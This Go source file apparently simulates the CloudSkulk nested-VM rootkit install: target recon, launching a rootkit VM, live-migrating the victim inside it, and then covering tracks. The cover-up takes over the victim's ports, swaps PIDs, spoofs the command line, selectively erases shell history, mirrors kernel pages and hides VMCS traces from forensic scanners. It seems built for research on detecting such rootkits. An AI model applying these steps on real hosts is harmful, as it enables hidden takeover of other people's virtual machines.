package core

import (
	"errors"
	"fmt"
	"time"

	"cloudskulk/internal/kvm"
	"cloudskulk/internal/mem"
	"cloudskulk/internal/migrate"
	"cloudskulk/internal/qemu"
)

// ErrTargetVanished is returned when the target VM disappears during
// the install.
var ErrTargetVanished = errors.New("cloudskulk: target vm disappeared during install")

// KernelPages is the size of the guest kernel-image region at the bottom
// of RAM used for fingerprinting and impersonation.
const KernelPages = 256

// InstallConfig parameterizes the attack. The zero value is the paper's
// install: recon picks the target, the RITM is named GuestX, and the
// RITM impersonates the victim.
type InstallConfig struct {
	// TargetName pins the victim VM; empty means "first QEMU process
	// recon finds".
	TargetName string
	// RITMName names the rootkit-in-the-middle VM; empty means the
	// paper's GuestX.
	RITMName string
	// Naive skips impersonation. By default the RITM copies the victim's
	// kernel-image region into its own RAM, so VMI fingerprinting of "the
	// guest" still matches; a naive RITM keeps its own and is caught.
	Naive bool
	// HideVMCS runs the nested hypervisor with a software MMU so no
	// VMCS signature lands in RITM memory — the evasion against
	// memory-forensic scanners (at a performance price not modelled on
	// top of the normal nesting costs).
	HideVMCS bool
}

// ritmName is the RITM's name: cfg.RITMName, else the paper's GuestX.
func (cfg InstallConfig) ritmName() string {
	if cfg.RITMName == "" {
		return "guestX"
	}
	return cfg.RITMName
}

// The paper's fixed install parameters.
const (
	// migrationPort carries the stolen guest: the host port the source
	// migrates to (paper: HOST PORT AAAA), which the RITM forwards to the
	// same port inside itself, where the nested twin listens (paper:
	// ROOTKIT PORT BBBB).
	migrationPort = 4444
	// ritmMemoryMultiple sizes the RITM relative to the target (it must
	// hold the nested VM plus its own OS).
	ritmMemoryMultiple = 2
)

// StepTiming records one install step's virtual-time cost.
type StepTiming struct {
	Name string
	Took time.Duration
}

// Report is the outcome of an installation.
type Report struct {
	TargetName   string
	TargetConfig qemu.Config
	ReconMethod  ReconMethod
	Migration    migrate.Result
	Steps        []StepTiming
	TotalTime    time.Duration
	PIDPreserved bool
	OriginalPID  int
}

// Rootkit is an installed CloudSkulk instance: handles to the RITM VM, the
// nested hypervisor inside it, and the victim now running as a nested
// guest.
type Rootkit struct {
	Host    *kvm.Host
	RITM    *qemu.VM
	InnerHV *kvm.Hypervisor
	Victim  *qemu.VM
	Report  *Report
}

// Installer executes the four-step CloudSkulk installation.
type Installer struct {
	Host      *kvm.Host
	Migration *migrate.Engine
}

// Install runs the attack end to end and returns the installed rootkit.
// The threat model's step 0 — having root on the host — is embodied by
// holding a *kvm.Host at all.
func (in Installer) Install(cfg InstallConfig) (*Rootkit, error) {
	cfg.RITMName = cfg.ritmName()

	eng := in.Host.Engine()
	hv := in.Host.Hypervisor()
	report := &Report{}
	start := eng.Now()
	step := func(name string, from time.Duration) time.Duration {
		now := eng.Now()
		report.Steps = append(report.Steps, StepTiming{Name: name, Took: now - from})
		return now
	}

	// Step 1: recon — find the target and its exact QEMU configuration.
	mark := eng.Now()
	targetCfg, method, err := in.findTarget(cfg)
	if err != nil {
		return nil, err
	}
	targetVM, ok := hv.VM(targetCfg.Name)
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrTargetVanished, targetCfg.Name)
	}
	// Command-line recon misses runtime state (hostfwd_add rules never
	// appear in ps). When the target exposes a monitor, refine the
	// network picture through `info network`.
	if targetCfg.MonitorPort != 0 {
		if mcfg, merr := (Recon{Host: in.Host}).ConfigViaMonitor(targetCfg.MonitorPort); merr == nil {
			targetCfg.NetDevs = mcfg.NetDevs
		}
	}
	report.TargetName = targetCfg.Name
	report.TargetConfig = targetCfg
	report.ReconMethod = method
	report.OriginalPID = targetVM.PID()
	mark = step("recon", mark)

	// Steps 2-4: launch GuestX, launch the victim's incoming twin inside
	// it, and migrate the victim into the twin.
	ritm, inner, err := LaunchRITM(hv, cfg, targetCfg)
	if err != nil {
		return nil, err
	}
	mark = step("launch ritm", mark)

	nested, err := LaunchIncoming(inner, targetCfg)
	if err != nil {
		return nil, err
	}
	mark = step("launch nested destination", mark)

	res, err := Migrate(targetVM, in.Migration)
	if err != nil {
		return nil, err
	}
	report.Migration = res
	mark = step("live migration", mark)

	// Clean-up: kill the drained source, take over its ports, PID and
	// command line (so `ps -ef` shows no change), and remove the
	// attacker's own launch commands from the host's shell history
	// (wiping everything would be suspicious; selective removal is not).
	originalFwds := fwdsOf(targetCfg)
	if err := hv.Kill(targetCfg.Name); err != nil {
		return nil, fmt.Errorf("cloudskulk: kill source: %w", err)
	}
	for _, rule := range originalFwds {
		takeover := qemu.FwdRule{HostPort: rule.HostPort, GuestPort: rule.HostPort}
		if err := ritm.AddHostFwd(takeover); err != nil {
			return nil, fmt.Errorf("cloudskulk: port takeover %d: %w", rule.HostPort, err)
		}
	}
	if err := in.Host.OS().SwapPID(ritm.PID(), report.OriginalPID); err == nil {
		ritm.SetPID(report.OriginalPID)
		report.PIDPreserved = true
	}
	if proc, ok := in.Host.OS().Process(ritm.PID()); ok {
		proc.Command = targetCfg.CommandLine()
	}
	in.Host.OS().RemoveHistoryMatching("-name " + cfg.RITMName)

	rk := &Rootkit{
		Host:    in.Host,
		RITM:    ritm,
		InnerHV: inner,
		Victim:  nested,
		Report:  report,
	}
	if !cfg.Naive {
		if err := rk.MirrorKernel(); err != nil {
			return nil, fmt.Errorf("cloudskulk: impersonate: %w", err)
		}
	}
	step("cleanup & takeover", mark)
	report.TotalTime = eng.Now() - start
	return rk, nil
}

// LaunchRITM is the install's step 2: it launches GuestX, the RITM
// named by cfg, on hv, sized to host target beside its own OS and
// forwarding the host's migration port into itself, and enables nesting
// inside it (with a software MMU when cfg.HideVMCS).
func LaunchRITM(hv *kvm.Hypervisor, cfg InstallConfig, target qemu.Config) (*qemu.VM, *kvm.Hypervisor, error) {
	name := cfg.ritmName()
	ritmCfg := qemu.DefaultConfig(name)
	ritmCfg.Machine = target.Machine
	ritmCfg.MemoryMB = target.MemoryMB * ritmMemoryMultiple
	ritmCfg.CPUs = target.CPUs
	ritmCfg.EnableKVM = true
	ritmCfg.NetDevs[0].HostFwds = []qemu.FwdRule{{HostPort: migrationPort, GuestPort: migrationPort}}
	ritm, err := hv.CreateVM(ritmCfg)
	if err != nil {
		return nil, nil, fmt.Errorf("cloudskulk: create ritm: %w", err)
	}
	if err := hv.Launch(name); err != nil {
		return nil, nil, fmt.Errorf("cloudskulk: launch ritm: %w", err)
	}
	inner, err := hv.EnableNesting(name)
	if err != nil {
		return nil, nil, fmt.Errorf("cloudskulk: nest: %w", err)
	}
	inner.SoftwareMMU = cfg.HideVMCS
	return ritm, inner, nil
}

// LaunchIncoming is the install's step 3: it creates an exact
// configuration twin of target on hv, the RITM's nested hypervisor, and
// launches it paused, listening for the migration stream. The twin even
// takes the target's name: the nested hypervisor is attacker territory,
// so nothing collides. On an L0 hypervisor the twin is a plain same-host
// migration destination, listening on the host's migration port.
func LaunchIncoming(hv *kvm.Hypervisor, target qemu.Config) (*qemu.VM, error) {
	twin := target.Clone()
	twin.Incoming = fmt.Sprintf("tcp:0.0.0.0:%d", migrationPort)
	vm, err := hv.CreateVM(twin)
	if err != nil {
		return nil, fmt.Errorf("cloudskulk: create incoming twin: %w", err)
	}
	if err := hv.Launch(twin.Name); err != nil {
		return nil, fmt.Errorf("cloudskulk: launch incoming twin: %w", err)
	}
	return vm, nil
}

// Migrate is the install's step 4: it drives source's own monitor to
// live-migrate it to the host's migration port, and returns me's result.
func Migrate(source *qemu.VM, me *migrate.Engine) (migrate.Result, error) {
	if _, err := source.Monitor().Execute(fmt.Sprintf("migrate -d tcp:127.0.0.1:%d", migrationPort)); err != nil {
		return migrate.Result{}, fmt.Errorf("cloudskulk: migrate: %w", err)
	}
	res, ok := me.LastResult()
	if !ok {
		return migrate.Result{}, errors.New("cloudskulk: migration produced no result")
	}
	return res, nil
}

func (in Installer) findTarget(cfg InstallConfig) (qemu.Config, ReconMethod, error) {
	r := Recon{Host: in.Host}
	if cfg.TargetName == "" {
		return r.FindTarget(cfg.RITMName)
	}
	// Pinned target: still go through recon surfaces, but filter.
	for _, proc := range in.Host.OS().FindByCommand("-name " + cfg.TargetName) {
		parsed, err := qemu.ParseCommandLine(proc.Command)
		if err == nil && parsed.Name == cfg.TargetName {
			return parsed, ReconPS, nil
		}
	}
	for _, line := range in.Host.OS().HistoryMatching("-name " + cfg.TargetName) {
		parsed, err := qemu.ParseCommandLine(line)
		if err == nil && parsed.Name == cfg.TargetName {
			return parsed, ReconHistory, nil
		}
	}
	return qemu.Config{}, "", fmt.Errorf("%w: %q", ErrNoTarget, cfg.TargetName)
}

func fwdsOf(cfg qemu.Config) []qemu.FwdRule {
	var out []qemu.FwdRule
	for _, nd := range cfg.NetDevs {
		out = append(out, nd.HostFwds...)
	}
	return out
}

// MirrorKernel copies the victim's kernel-image region into the RITM's own
// RAM at the same offsets, so an OS fingerprint of "the guest the admin
// sees" matches the victim's.
func (rk *Rootkit) MirrorKernel() error {
	return rk.MirrorRange(0, min(KernelPages, rk.Victim.RAM().NumPages(), rk.RITM.RAM().NumPages()))
}

// MirrorFile loads a file image into the RITM's memory — the attacker
// keeping GuestX's memory contents plausible (same OS files as the
// victim), which is exactly the assumption the dedup detector exploits.
func (rk *Rootkit) MirrorFile(f *mem.File, atPage int) error {
	return rk.RITM.RAM().LoadFile(f, atPage)
}
